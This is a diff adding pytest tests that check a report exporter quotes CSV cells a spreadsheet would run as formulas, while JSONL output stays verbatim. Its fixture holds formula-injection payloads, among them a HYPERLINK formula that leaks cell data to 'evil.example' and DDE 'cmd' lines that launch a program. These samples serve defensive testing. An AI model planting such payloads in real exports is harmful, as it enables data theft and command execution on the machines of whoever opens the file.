@@ -196,3 +196,57 @@ def test_build_report_figures(engine, job):
     assert report.rejected_samples == [
         reports.RejectedSample("in.txt", 7, "line 7: imageUrl: is not an absolute URL")
     ]
+
+
+FORMULAS = {
+    "image_url": 'https://e.com/=HYPERLINK("http://evil.example/?leak="&A1,"open")',
+    "oss_object": "=cmd|' /C calc'!A0",
+    "data_id": "@SUM(1+1)",
+    "referer": "+1+cmd|' /C calc'!A0",
+    "source": "-2+3.txt",
+    "last_error": "\tline 1: tab first",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_and_jsonl_stays_verbatim(
+    engine,
+):
+    job = store.get_or_create_job(engine, "formulas", "baselineCheck_global", "")
+    row = dict(vars(new_item(1)), ref_key="x", oss_bucket="b", oss_region="cn-beijing")
+    row.update(FORMULAS)
+    row["image_url"] = FORMULAS["image_url"].removeprefix("https://e.com/")  # starts with =
+    store.insert_items(engine, job.id, [store.NewItem(**row)])
+    records = export(engine, job)
+
+    out = io.StringIO(newline="")
+    reports.write_csv(records, out)
+    (cells,) = list(csv.DictReader(io.StringIO(out.getvalue())))
+    expected = {**FORMULAS, "image_url": row["image_url"]}
+    for column, value in expected.items():
+        exported = cells["error" if column == "last_error" else column]
+        assert exported == "'" + value, column  # shown as text, never evaluated
+    assert cells["status"] == "pending" and cells["line"] == "1"  # others untouched
+
+    out = io.StringIO()
+    reports.write_jsonl(records, out)
+    record = json.loads(out.getvalue())
+    assert record["oss_object"] == FORMULAS["oss_object"]  # JSONL: exactly what was stored
+    assert record["data_id"] == FORMULAS["data_id"] and record["image_url"] == row["image_url"]
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("https://e.com/a=1", "https://e.com/a=1"),
+        (" =1", " =1"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_safe_quotes_only_cells_starting_a_formula(cell, safe):
+    assert reports.spreadsheet_safe(cell) == safe
